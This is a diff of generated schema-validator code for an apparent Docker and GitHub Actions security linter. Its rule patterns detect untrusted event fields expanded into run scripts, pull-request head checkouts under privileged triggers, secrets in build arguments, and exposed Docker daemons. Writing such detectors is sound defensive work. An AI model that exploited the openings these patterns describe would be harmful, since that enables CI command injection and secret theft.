-var schema130 = { "$id": "https://containment.dev/schemas/rule.json", "type": "object", "additionalProperties": false, "required": ["id", "title", "severity", "subject", "schema", "message", "rationale", "remediation", "references", "tests"], "properties": { "id": { "type": "string", "pattern": "^[a-z0-9]+(-[a-z0-9]+)*$" }, "title": { "type": "string", "minLength": 1 }, "severity": { "enum": ["critical", "high", "medium", "low", "info"] }, "subject": { "enum": ["container", "image", "command", "dockerfile", "dockerfile.stage", "compose", "workflow", "workflow.job", "workflow.step", "action-ref"] }, "when": { "type": "object" }, "schema": { "type": "object" }, "message": { "type": "string", "minLength": 1 }, "rationale": { "type": "string", "minLength": 1 }, "remediation": { "type": "string", "minLength": 1 }, "references": { "type": "array", "minItems": 1, "items": { "type": "object", "minProperties": 1, "maxProperties": 1, "additionalProperties": false, "properties": { "cis-docker": { "type": "string", "pattern": "^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$" }, "owasp-docker": { "type": "string", "pattern": "^RULE #\\d+[a-z]?$" }, "docker-build-check": { "type": "string", "pattern": "^[A-Za-z]+$" }, "url": { "type": "string", "pattern": "^https://" } } } }, "params": { "type": "object", "propertyNames": { "pattern": "^[A-Za-z][A-Za-z0-9]*$" }, "additionalProperties": { "type": "object", "additionalProperties": false, "required": ["description", "schema", "default"], "properties": { "description": { "type": "string", "minLength": 1 }, "schema": { "type": "object" }, "default": {} } } }, "tests": { "type": "array", "minItems": 2, "items": { "type": "object", "additionalProperties": false, "required": ["file", "content", "expect"], "properties": { "file": { "type": "string", "minLength": 1 }, "content": { "type": "string" }, "files": { "type": "object", "additionalProperties": { "type": "string" } }, "expect": { "type": "array", "items": { "type": "object", "additionalProperties": false, "required": ["line", "column"], "properties": { "line": { "type": "integer", "minimum": 1 }, "column": { "type": "integer", "minimum": 1 }, "endLine": { "type": "integer", "minimum": 1 }, "endColumn": { "type": "integer", "minimum": 1 } } } } } } } } };
-var func78 = Object.prototype.hasOwnProperty;
-var pattern75 = func0("^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$", "u");
-var pattern76 = func0("^RULE #\\d+[a-z]?$", "u");
-var pattern77 = func0("^[A-Za-z]+$", "u");
-var pattern78 = func0("^https://", "u");
-var pattern79 = func0("^[A-Za-z][A-Za-z0-9]*$", "u");
-function validate117(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
+validate105.evaluated = { "props": true, "dynamicProps": false, "dynamicItems": false };
+var v86 = validate106;
+var schema119 = { "$id": "https://containment.dev/schemas/rule.json", "type": "object", "additionalProperties": false, "required": ["id", "title", "severity", "subject", "schema", "message", "rationale", "remediation", "references", "tests"], "properties": { "id": { "type": "string", "pattern": "^[a-z0-9]+(-[a-z0-9]+)*$" }, "title": { "type": "string", "minLength": 1 }, "severity": { "enum": ["critical", "high", "medium", "low", "info"] }, "subject": { "enum": ["container", "image", "command", "dockerfile", "dockerfile.stage", "compose", "workflow", "workflow.job", "workflow.step", "action-ref"] }, "when": { "type": "object" }, "schema": { "type": "object" }, "message": { "type": "string", "minLength": 1 }, "rationale": { "type": "string", "minLength": 1 }, "remediation": { "type": "string", "minLength": 1 }, "references": { "type": "array", "minItems": 1, "items": { "type": "object", "minProperties": 1, "maxProperties": 1, "additionalProperties": false, "properties": { "cis-docker": { "type": "string", "pattern": "^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$" }, "owasp-docker": { "type": "string", "pattern": "^RULE #\\d+[a-z]?$" }, "docker-build-check": { "type": "string", "pattern": "^[A-Za-z]+$" }, "url": { "type": "string", "pattern": "^https://" } } } }, "params": { "type": "object", "propertyNames": { "pattern": "^[A-Za-z][A-Za-z0-9]*$" }, "additionalProperties": { "type": "object", "additionalProperties": false, "required": ["description", "schema", "default"], "properties": { "description": { "type": "string", "minLength": 1 }, "schema": { "type": "object" }, "default": {} } } }, "tests": { "type": "array", "minItems": 2, "items": { "type": "object", "additionalProperties": false, "required": ["file", "content", "expect"], "properties": { "file": { "type": "string", "minLength": 1 }, "content": { "type": "string" }, "files": { "type": "object", "additionalProperties": { "type": "string" } }, "expect": { "type": "array", "items": { "type": "object", "additionalProperties": false, "required": ["line", "column"], "properties": { "line": { "type": "integer", "minimum": 1 }, "column": { "type": "integer", "minimum": 1 }, "endLine": { "type": "integer", "minimum": 1 }, "endColumn": { "type": "integer", "minimum": 1 } } } } } } } } };
+var func71 = Object.prototype.hasOwnProperty;
+var pattern67 = func0("^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$", "u");
+var pattern68 = func0("^RULE #\\d+[a-z]?$", "u");
+var pattern69 = func0("^[A-Za-z]+$", "u");
+var pattern70 = func0("^https://", "u");
+var pattern71 = func0("^[A-Za-z][A-Za-z0-9]*$", "u");
+function validate106(data, { instancePath = "", parentData, parentDataProperty, rootData = data, dynamicAnchors = {} } = {}) {
   ;
   let vErrors = null;
   let errors = 0;
-  const evaluated0 = validate117.evaluated;
+  const evaluated0 = validate106.evaluated;
   if (evaluated0.dynamicProps) {
     evaluated0.props = void 0;
   }
@@ -40175,7 +39105,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
       errors++;
     }
     for (const key0 in data) {
-      if (!func78.call(schema130.properties, key0)) {
+      if (!func71.call(schema119.properties, key0)) {
         const err10 = { instancePath, schemaPath: "#/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key0 }, message: "must NOT have additional properties" };
         if (vErrors === null) {
           vErrors = [err10];
@@ -40188,7 +39118,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.id !== void 0) {
       let data0 = data.id;
       if (typeof data0 === "string") {
-        if (!pattern73.test(data0)) {
+        if (!pattern65.test(data0)) {
           const err11 = { instancePath: instancePath + "/id", schemaPath: "#/properties/id/pattern", keyword: "pattern", params: { pattern: "^[a-z0-9]+(-[a-z0-9]+)*$" }, message: 'must match pattern "^[a-z0-9]+(-[a-z0-9]+)*$"' };
           if (vErrors === null) {
             vErrors = [err11];
@@ -40210,7 +39140,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.title !== void 0) {
       let data1 = data.title;
       if (typeof data1 === "string") {
-        if (func75(data1) < 1) {
+        if (func68(data1) < 1) {
           const err13 = { instancePath: instancePath + "/title", schemaPath: "#/properties/title/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err13];
@@ -40232,7 +39162,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.severity !== void 0) {
       let data2 = data.severity;
       if (!(data2 === "critical" || data2 === "high" || data2 === "medium" || data2 === "low" || data2 === "info")) {
-        const err15 = { instancePath: instancePath + "/severity", schemaPath: "#/properties/severity/enum", keyword: "enum", params: { allowedValues: schema130.properties.severity.enum }, message: "must be equal to one of the allowed values" };
+        const err15 = { instancePath: instancePath + "/severity", schemaPath: "#/properties/severity/enum", keyword: "enum", params: { allowedValues: schema119.properties.severity.enum }, message: "must be equal to one of the allowed values" };
         if (vErrors === null) {
           vErrors = [err15];
         } else {
@@ -40244,7 +39174,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.subject !== void 0) {
       let data3 = data.subject;
       if (!(data3 === "container" || data3 === "image" || data3 === "command" || data3 === "dockerfile" || data3 === "dockerfile.stage" || data3 === "compose" || data3 === "workflow" || data3 === "workflow.job" || data3 === "workflow.step" || data3 === "action-ref")) {
-        const err16 = { instancePath: instancePath + "/subject", schemaPath: "#/properties/subject/enum", keyword: "enum", params: { allowedValues: schema130.properties.subject.enum }, message: "must be equal to one of the allowed values" };
+        const err16 = { instancePath: instancePath + "/subject", schemaPath: "#/properties/subject/enum", keyword: "enum", params: { allowedValues: schema119.properties.subject.enum }, message: "must be equal to one of the allowed values" };
         if (vErrors === null) {
           vErrors = [err16];
         } else {
@@ -40280,7 +39210,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.message !== void 0) {
       let data6 = data.message;
       if (typeof data6 === "string") {
-        if (func75(data6) < 1) {
+        if (func68(data6) < 1) {
           const err19 = { instancePath: instancePath + "/message", schemaPath: "#/properties/message/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err19];
@@ -40302,7 +39232,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.rationale !== void 0) {
       let data7 = data.rationale;
       if (typeof data7 === "string") {
-        if (func75(data7) < 1) {
+        if (func68(data7) < 1) {
           const err21 = { instancePath: instancePath + "/rationale", schemaPath: "#/properties/rationale/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err21];
@@ -40324,7 +39254,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
     if (data.remediation !== void 0) {
       let data8 = data.remediation;
       if (typeof data8 === "string") {
-        if (func75(data8) < 1) {
+        if (func68(data8) < 1) {
           const err23 = { instancePath: instancePath + "/remediation", schemaPath: "#/properties/remediation/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
           if (vErrors === null) {
             vErrors = [err23];
@@ -40391,7 +39321,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
             if (data10["cis-docker"] !== void 0) {
               let data11 = data10["cis-docker"];
               if (typeof data11 === "string") {
-                if (!pattern75.test(data11)) {
+                if (!pattern67.test(data11)) {
                   const err29 = { instancePath: instancePath + "/references/" + i0 + "/cis-docker", schemaPath: "#/properties/references/items/properties/cis-docker/pattern", keyword: "pattern", params: { pattern: "^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$" }, message: 'must match pattern "^\\d+\\.\\d+\\.\\d+:\\d+(\\.\\d+)*$"' };
                   if (vErrors === null) {
                     vErrors = [err29];
@@ -40413,7 +39343,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
             if (data10["owasp-docker"] !== void 0) {
               let data12 = data10["owasp-docker"];
               if (typeof data12 === "string") {
-                if (!pattern76.test(data12)) {
+                if (!pattern68.test(data12)) {
                   const err31 = { instancePath: instancePath + "/references/" + i0 + "/owasp-docker", schemaPath: "#/properties/references/items/properties/owasp-docker/pattern", keyword: "pattern", params: { pattern: "^RULE #\\d+[a-z]?$" }, message: 'must match pattern "^RULE #\\d+[a-z]?$"' };
                   if (vErrors === null) {
                     vErrors = [err31];
@@ -40435,7 +39365,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
             if (data10["docker-build-check"] !== void 0) {
               let data13 = data10["docker-build-check"];
               if (typeof data13 === "string") {
-                if (!pattern77.test(data13)) {
+                if (!pattern69.test(data13)) {
                   const err33 = { instancePath: instancePath + "/references/" + i0 + "/docker-build-check", schemaPath: "#/properties/references/items/properties/docker-build-check/pattern", keyword: "pattern", params: { pattern: "^[A-Za-z]+$" }, message: 'must match pattern "^[A-Za-z]+$"' };
                   if (vErrors === null) {
                     vErrors = [err33];
@@ -40457,7 +39387,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
             if (data10.url !== void 0) {
               let data14 = data10.url;
               if (typeof data14 === "string") {
-                if (!pattern78.test(data14)) {
+                if (!pattern70.test(data14)) {
                   const err35 = { instancePath: instancePath + "/references/" + i0 + "/url", schemaPath: "#/properties/references/items/properties/url/pattern", keyword: "pattern", params: { pattern: "^https://" }, message: 'must match pattern "^https://"' };
                   if (vErrors === null) {
                     vErrors = [err35];
@@ -40502,7 +39432,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
         for (const key2 in data15) {
           const _errs33 = errors;
           if (typeof key2 === "string") {
-            if (!pattern79.test(key2)) {
+            if (!pattern71.test(key2)) {
               const err39 = { instancePath: instancePath + "/params", schemaPath: "#/properties/params/propertyNames/pattern", keyword: "pattern", params: { pattern: "^[A-Za-z][A-Za-z0-9]*$" }, message: 'must match pattern "^[A-Za-z][A-Za-z0-9]*$"', propertyName: key2 };
               if (vErrors === null) {
                 vErrors = [err39];
@@ -40567,7 +39497,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
             if (data16.description !== void 0) {
               let data17 = data16.description;
               if (typeof data17 === "string") {
-                if (func75(data17) < 1) {
+                if (func68(data17) < 1) {
                   const err45 = { instancePath: instancePath + "/params/" + key3.replace(/~/g, "~0").replace(/\//g, "~1") + "/description", schemaPath: "#/properties/params/additionalProperties/properties/description/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
                   if (vErrors === null) {
                     vErrors = [err45];
@@ -40675,7 +39605,7 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
             if (data20.file !== void 0) {
               let data21 = data20.file;
               if (typeof data21 === "string") {
-                if (func75(data21) < 1) {
+                if (func68(data21) < 1) {
                   const err55 = { instancePath: instancePath + "/tests/" + i1 + "/file", schemaPath: "#/properties/tests/items/properties/file/minLength", keyword: "minLength", params: { limit: 1 }, message: "must NOT have fewer than 1 characters" };
                   if (vErrors === null) {
                     vErrors = [err55];
@@ -40906,10 +39836,10 @@ function validate117(data, { instancePath = "", parentData, parentDataProperty, 
     }
     errors++;
   }
-  validate117.errors = vErrors;
+  validate106.errors = vErrors;
   return errors === 0;
 }
-validate117.evaluated = { "props": true, "dynamicProps": false, "dynamicItems": false };
+validate106.evaluated = { "props": true, "dynamicProps": false, "dynamicItems": false };
 var packs;
 var validators = [
   ['{"properties":{"origin":{"const":"dockerfile"}}}', v0],
@@ -40982,37 +39912,26 @@ var validators = [
   ['{"properties":{"docker":{"properties":{"flags":{"properties":{"password":{"items":{"pattern":"\\\\$"}}}}}}}}', v67],
   ['{"required":["credentials"],"properties":{"origin":{"enum":["job-container","job-service"]}}}', v68],
   ['{"properties":{"credentials":{"properties":{"password":{"pattern":"\\\\$\\\\{\\\\{"}}}}}', v69],
-  ['{"required":["triggers"],"properties":{"triggers":{"contains":{"enum":["pull_request_target","issue_comment","workflow_run","issues","discussion_comment","pull_request_review_comment"]}}}}', v70],
-  ['{"not":{"anyOf":[{"required":["uses","with"],"properties":{"uses":{"pattern":"^(?i:docker/build-push-action|docker/bake-action)(@|$)"},"with":{"required":["cache-from","push"],"properties":{"cache-from":{"pattern":"type=gha"},"push":{"pattern":"^\\\\s*(?:true|\\\\$\\\\{\\\\{)"}}}}},{"required":["commands"],"properties":{"commands":{"contains":{"pattern":"--cache-from[= ]\\\\S*type=gha.*--push|--push.*--cache-from[= ]\\\\S*type=gha"}}}}]}}', v71],
-  ['{"required":["credentialPersisted","buildContexts"]}', v72],
-  ['{"properties":{"gitInBuildContext":false}}', v73],
-  ['{"properties":{"origin":{"enum":["job-container","job-service"]}}}', v74],
-  ['{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":"^tcp://[^\\\\s/:]*(:2375)?/?$"}}}}},"if":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/setup-docker-action(@|$)"}}},"then":{"properties":{"with":{"properties":{"tcp-port":false}}}}}', v75],
-  ['{"required":["uses","with"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"},"with":{"required":["push"],"properties":{"push":{"const":"true"}}}}}', v76],
-  ['{"properties":{"with":{"required":["sbom"],"properties":{"sbom":{"const":"true"},"provenance":{"not":{"enum":["false","0"]}}}}}}', v77],
-  ['{"properties":{"permissions":{"not":{"const":"write-all"}}}}', v78],
-  ['{"required":["uses"],"properties":{"uses":{"pattern":"^docker/login-action(@|$)"}}}', v79],
-  ['{"properties":{"with":{"properties":{"password":{"pattern":"^$|\\\\$\\\\{\\\\{"}}}}}', v80],
-  ['{"properties":{"inheritingJobs":{"minItems":1}}}', v81],
-  ['{"required":["permissions"]}', v82],
-  ['{"required":["permissions"],"properties":{"permissions":{"type":"object"},"inheritingJobs":{"minItems":1}}}', v83],
-  ['{"properties":{"permissions":{"additionalProperties":{"not":{"const":"write"}}}}}', v84],
-  ['{"required":["uses"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"}}}', v85],
-  ['{"properties":{"with":{"properties":{"build-args":{"not":{"pattern":"\\\\$\\\\{\\\\{\\\\s*(secrets\\\\.|github\\\\.token)"}}}}}}', v86],
-  ['{"properties":{"allSecrets":false}}', v87],
-  ['{"required":["secretsInherit"]}', v88],
-  ['{"properties":{"callsImageBuilder":false}}', v89],
-  ['{"required":["runsDocker","triggers"],"properties":{"triggers":{"contains":{"enum":["pull_request","pull_request_target","pull_request_review","pull_request_review_comment","issue_comment","merge_group"]}}}}', v90],
-  ['{"properties":{"runsOn":{"not":{"anyOf":[{"const":"self-hosted"},{"type":"array","contains":{"const":"self-hosted"}},{"type":"object","required":["labels"],"properties":{"labels":{"anyOf":[{"const":"self-hosted"},{"type":"array","contains":{"const":"self-hosted"}}]}}}]}}}}', v91],
-  ['{"required":["checkedOutRefs","triggers"],"properties":{"checkedOutRefs":{"contains":{"pattern":"(?:github\\\\.event\\\\.pull_request\\\\.head\\\\.(sha|ref|repo\\\\.full_name|repo\\\\.clone_url|label))|(?:github\\\\.event\\\\.pull_request\\\\.merge_commit_sha)|(?:github\\\\.head_ref)|(?:github\\\\.event\\\\.workflow_run\\\\.(head_sha|head_branch|head_repository\\\\.full_name|head_repository\\\\.clone_url|pull_requests))|(?:github\\\\.event\\\\.(check_suite|check_run\\\\.check_suite)\\\\.head_(sha|branch))|(?:refs/pull/)|(?:(^|[\\\\s:+/])pull/[^/\\\\s]+/(head|merge))|(?:steps\\\\.[\\\\w-]+\\\\.outputs\\\\.[\\\\w-]*(head|pr)[\\\\w-]*)"}},"triggers":{"contains":{"enum":["pull_request_target","workflow_run","issue_comment","pull_request_review_comment","discussion_comment","issues"]}}}}', v92],
-  ['{"not":{"anyOf":[{"required":["commands"],"properties":{"commands":{"contains":{"pattern":"(?:^(\\\\S*/)?(npm|pnpm|yarn|bun|npx|pnpx|node|deno|lerna|nx|turbo)( |$))|(?:^(\\\\S*/)?(make|gmake|cmake|ninja|bazel|bazelisk|meson|just|task|rake|bundle|composer|mix|sbt|ant|mvn|gradle|cargo|dotnet|msbuild|xcodebuild|swift|pre-commit|tox|nox|pytest|poetry|pipenv|hatch|pdm|buck2?)( |$))|(?:^(\\\\S*/)?(\\\\./|\\\\.\\\\./)|^(\\\\S*/)?(gradlew|mvnw)( |$))|(?:^(\\\\S*/)?(ba|da|z|k)?sh [^-]|^(source|\\\\.) )|(?:^(\\\\S*/)?python[0-9.]* ([^-]|-m (pytest|build|tox|nox|unittest|pip install)))|(?:^(\\\\S*/)?(pip[0-9.]*|uv pip) install .*(\\\\s\\\\.|\\\\s-e|\\\\s-r|\\\\./|requirements))|(?:^(\\\\S*/)?(uv|go) (run|test|generate|build|sync)( |$))|(?:^(\\\\S*/)?(docker|podman|nerdctl) (buildx |image )?(build|bake)( |$)|^(\\\\S*/)?buildah (bud|build)( |$))|(?:^(\\\\S*/)?(docker|podman) compose |^(\\\\S*/)?(docker-compose|podman-compose) )|(?:^(\\\\S*/)?(docker|podman|nerdctl) (container )?(run|create) .*(\\\\$\\\\{?PWD|\\\\$\\\\(pwd\\\\)|github\\\\.workspace|GITHUB_WORKSPACE|[\\\\s=]\\\\.(/|:|\\\\s|$)))"}}}},{"required":["uses"],"properties":{"uses":{"pattern":"^\\\\.[/\\\\\\\\]"}}},{"required":["builds"]},{"required":["composeFiles"]}]}}', v93],
-  ['{"properties":{"expansions":{"items":{"if":{"required":["input"],"properties":{"input":{"enum":["run","actions/github-script:script","appleboy/ssh-action:script","appleboy/ssh-action:script_path","garygrossgarten/github-action-ssh:command","nick-fields/retry:command","nick-invision/retry:command","wandalen/wretry.action:command","azure/cli:inlinescript","azure/powershell:inlinescript","addnab/docker-run-action:run","mathiasvr/command-output:run","gacts/run-and-post-run:run","gacts/run-and-post-run:post"]}}},"then":{"properties":{"context":{"not":{"pattern":"(?:^github\\\\.event\\\\.(issue|pull_request|discussion)\\\\.(title|body)$)|(?:^github\\\\.event\\\\.(comment|review|review_comment)\\\\.body$)|(?:^github\\\\.event\\\\.release\\\\.(name|body|tag_name)$)|(?:^github\\\\.event\\\\.pages\\\\.\\\\*\\\\.page_name$)|(?:^github\\\\.head_ref$)|(?:^github\\\\.event\\\\.pull_request\\\\.head\\\\.(ref|label)$)|(?:^github\\\\.event\\\\.pull_request\\\\.head\\\\.repo\\\\.(default_branch|description|homepage)$)|(?:^github\\\\.event\\\\.(workflow_run\\\\.head_branch|check_suite\\\\.head_branch|check_run\\\\.check_suite\\\\.head_branch)$)|(?:^github\\\\.event\\\\.workflow_run\\\\.pull_requests\\\\.\\\\*\\\\.head\\\\.ref$)|(?:^github\\\\.event\\\\.(commits\\\\.\\\\*|head_commit|workflow_run\\\\.head_commit|merge_group\\\\.head_commit)\\\\.(message|(author|committer)\\\\.(name|email))$)|(?:^github\\\\.event\\\\.workflow_run\\\\.(display_title|head_repository\\\\.description)$)|(?:^github\\\\.event\\\\.client_payload(\\\\..*)?$)|(?:^github(\\\\.event)?$)|(?:^github\\\\.event\\\\.(issue|pull_request|pull_request\\\\.head|pull_request\\\\.head\\\\.repo|discussion|comment|review|review_comment|release|pages|pages\\\\.\\\\*|commits|commits\\\\.\\\\*|commits\\\\.\\\\*\\\\.(author|committer)|head_commit|head_commit\\\\.(author|committer)|workflow_run|workflow_run\\\\.head_commit|workflow_run\\\\.head_commit\\\\.(author|committer)|workflow_run\\\\.head_repository|workflow_run\\\\.pull_requests|workflow_run\\\\.pull_requests\\\\.\\\\*|workflow_run\\\\.pull_requests\\\\.\\\\*\\\\.head|check_suite|check_run|check_run\\\\.check_suite|merge_group|merge_group\\\\.head_commit)$)"}}}}}}}}', v94],
-  ['{"$id":"https://containment.dev/schemas/config.json","type":"object","additionalProperties":false,"properties":{"fail-on":{"enum":["critical","high","medium","low","info","none"]},"min-severity":{"enum":["critical","high","medium","low","info"]},"exclude":{"type":"array","items":{"type":"string"}},"packs":{"type":"object","additionalProperties":{"type":"boolean"}},"rules":{"type":"object","additionalProperties":{"anyOf":[{"const":"off"},{"enum":["critical","high","medium","low","info"]},{"type":"object","additionalProperties":false,"properties":{"enabled":{"type":"boolean"},"severity":{"enum":["critical","high","medium","low","info"]},"params":{"type":"object"},"exclude":{"type":"array","items":{"type":"string"}}}}]}},"suppressions":{"type":"object","additionalProperties":false,"properties":{"in-pull-request":{"enum":["none","up-to-info","up-to-low","up-to-medium","up-to-high","all"]}}}}}', v95],
-  ['{"$id":"https://containment.dev/schemas/pack.json","type":"object","additionalProperties":false,"required":["id","title","description","version"],"properties":{"id":{"type":"string","pattern":"^[a-z0-9]+(-[a-z0-9]+)*$"},"title":{"type":"string","minLength":1},"description":{"type":"string","minLength":1},"version":{"type":"string","minLength":1},"sources":{"type":"array","items":{"type":"string"}}}}', v96],
-  ['{"$id":"https://containment.dev/schemas/rule.json","type":"object","additionalProperties":false,"required":["id","title","severity","subject","schema","message","rationale","remediation","references","tests"],"properties":{"id":{"type":"string","pattern":"^[a-z0-9]+(-[a-z0-9]+)*$"},"title":{"type":"string","minLength":1},"severity":{"enum":["critical","high","medium","low","info"]},"subject":{"enum":["container","image","command","dockerfile","dockerfile.stage","compose","workflow","workflow.job","workflow.step","action-ref"]},"when":{"type":"object"},"schema":{"type":"object"},"message":{"type":"string","minLength":1},"rationale":{"type":"string","minLength":1},"remediation":{"type":"string","minLength":1},"references":{"type":"array","minItems":1,"items":{"type":"object","minProperties":1,"maxProperties":1,"additionalProperties":false,"properties":{"cis-docker":{"type":"string","pattern":"^\\\\d+\\\\.\\\\d+\\\\.\\\\d+:\\\\d+(\\\\.\\\\d+)*$"},"owasp-docker":{"type":"string","pattern":"^RULE #\\\\d+[a-z]?$"},"docker-build-check":{"type":"string","pattern":"^[A-Za-z]+$"},"url":{"type":"string","pattern":"^https://"}}}},"params":{"type":"object","propertyNames":{"pattern":"^[A-Za-z][A-Za-z0-9]*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["description","schema","default"],"properties":{"description":{"type":"string","minLength":1},"schema":{"type":"object"},"default":{}}}},"tests":{"type":"array","minItems":2,"items":{"type":"object","additionalProperties":false,"required":["file","content","expect"],"properties":{"file":{"type":"string","minLength":1},"content":{"type":"string"},"files":{"type":"object","additionalProperties":{"type":"string"}},"expect":{"type":"array","items":{"type":"object","additionalProperties":false,"required":["line","column"],"properties":{"line":{"type":"integer","minimum":1},"column":{"type":"integer","minimum":1},"endLine":{"type":"integer","minimum":1},"endColumn":{"type":"integer","minimum":1}}}}}}}}}', v97]
+  ['{"properties":{"origin":{"enum":["job-container","job-service"]}}}', v70],
+  ['{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":"^tcp://[^\\\\s/:]*(:2375)?/?$"}}}}},"if":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/setup-docker-action(@|$)"}}},"then":{"properties":{"with":{"properties":{"tcp-port":false}}}}}', v71],
+  ['{"required":["uses","with"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"},"with":{"required":["push"],"properties":{"push":{"const":"true"}}}}}', v72],
+  ['{"properties":{"with":{"required":["sbom"],"properties":{"sbom":{"const":"true"},"provenance":{"not":{"enum":["false","0"]}}}}}}', v73],
+  ['{"properties":{"permissions":{"not":{"const":"write-all"}}}}', v74],
+  ['{"required":["uses"],"properties":{"uses":{"pattern":"^docker/login-action(@|$)"}}}', v75],
+  ['{"properties":{"with":{"properties":{"password":{"pattern":"^$|\\\\$\\\\{\\\\{"}}}}}', v76],
+  ['{"not":{"properties":{"on":{"properties":{"events":{"const":["workflow_call"]}}}}}}', v77],
+  ['{"required":["permissions"]}', v78],
+  ['{"required":["uses"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"}}}', v79],
+  ['{"properties":{"with":{"properties":{"build-args":{"not":{"pattern":"\\\\$\\\\{\\\\{\\\\s*(secrets\\\\.|github\\\\.token)"}}}}}}', v80],
+  ['{"required":["prHeadCheckedOut","triggers"],"properties":{"prHeadCheckedOut":{"const":true},"triggers":{"contains":{"enum":["pull_request_target","workflow_run"]}}}}', v81],
+  ['{"properties":{"builds":false,"composeFiles":false}}', v82],
+  ['{"if":{"required":["untrustedExpressions"]},"then":{"properties":{"run":false}}}', v83],
+  ['{"$id":"https://containment.dev/schemas/config.json","type":"object","additionalProperties":false,"properties":{"fail-on":{"enum":["critical","high","medium","low","info","none"]},"min-severity":{"enum":["critical","high","medium","low","info"]},"exclude":{"type":"array","items":{"type":"string"}},"packs":{"type":"object","additionalProperties":{"type":"boolean"}},"rules":{"type":"object","additionalProperties":{"anyOf":[{"const":"off"},{"enum":["critical","high","medium","low","info"]},{"type":"object","additionalProperties":false,"properties":{"enabled":{"type":"boolean"},"severity":{"enum":["critical","high","medium","low","info"]},"params":{"type":"object"},"exclude":{"type":"array","items":{"type":"string"}}}}]}},"suppressions":{"type":"object","additionalProperties":false,"properties":{"in-pull-request":{"enum":["none","up-to-info","up-to-low","up-to-medium","up-to-high","all"]}}}}}', v84],
+  ['{"$id":"https://containment.dev/schemas/pack.json","type":"object","additionalProperties":false,"required":["id","title","description","version"],"properties":{"id":{"type":"string","pattern":"^[a-z0-9]+(-[a-z0-9]+)*$"},"title":{"type":"string","minLength":1},"description":{"type":"string","minLength":1},"version":{"type":"string","minLength":1},"sources":{"type":"array","items":{"type":"string"}}}}', v85],
+  ['{"$id":"https://containment.dev/schemas/rule.json","type":"object","additionalProperties":false,"required":["id","title","severity","subject","schema","message","rationale","remediation","references","tests"],"properties":{"id":{"type":"string","pattern":"^[a-z0-9]+(-[a-z0-9]+)*$"},"title":{"type":"string","minLength":1},"severity":{"enum":["critical","high","medium","low","info"]},"subject":{"enum":["container","image","command","dockerfile","dockerfile.stage","compose","workflow","workflow.job","workflow.step","action-ref"]},"when":{"type":"object"},"schema":{"type":"object"},"message":{"type":"string","minLength":1},"rationale":{"type":"string","minLength":1},"remediation":{"type":"string","minLength":1},"references":{"type":"array","minItems":1,"items":{"type":"object","minProperties":1,"maxProperties":1,"additionalProperties":false,"properties":{"cis-docker":{"type":"string","pattern":"^\\\\d+\\\\.\\\\d+\\\\.\\\\d+:\\\\d+(\\\\.\\\\d+)*$"},"owasp-docker":{"type":"string","pattern":"^RULE #\\\\d+[a-z]?$"},"docker-build-check":{"type":"string","pattern":"^[A-Za-z]+$"},"url":{"type":"string","pattern":"^https://"}}}},"params":{"type":"object","propertyNames":{"pattern":"^[A-Za-z][A-Za-z0-9]*$"},"additionalProperties":{"type":"object","additionalProperties":false,"required":["description","schema","default"],"properties":{"description":{"type":"string","minLength":1},"schema":{"type":"object"},"default":{}}}},"tests":{"type":"array","minItems":2,"items":{"type":"object","additionalProperties":false,"required":["file","content","expect"],"properties":{"file":{"type":"string","minLength":1},"content":{"type":"string"},"files":{"type":"object","additionalProperties":{"type":"string"}},"expect":{"type":"array","items":{"type":"object","additionalProperties":false,"required":["line","column"],"properties":{"line":{"type":"integer","minimum":1},"column":{"type":"integer","minimum":1},"endLine":{"type":"integer","minimum":1},"endColumn":{"type":"integer","minimum":1}}}}}}}}}', v86]
 ];
 function precompiled() {
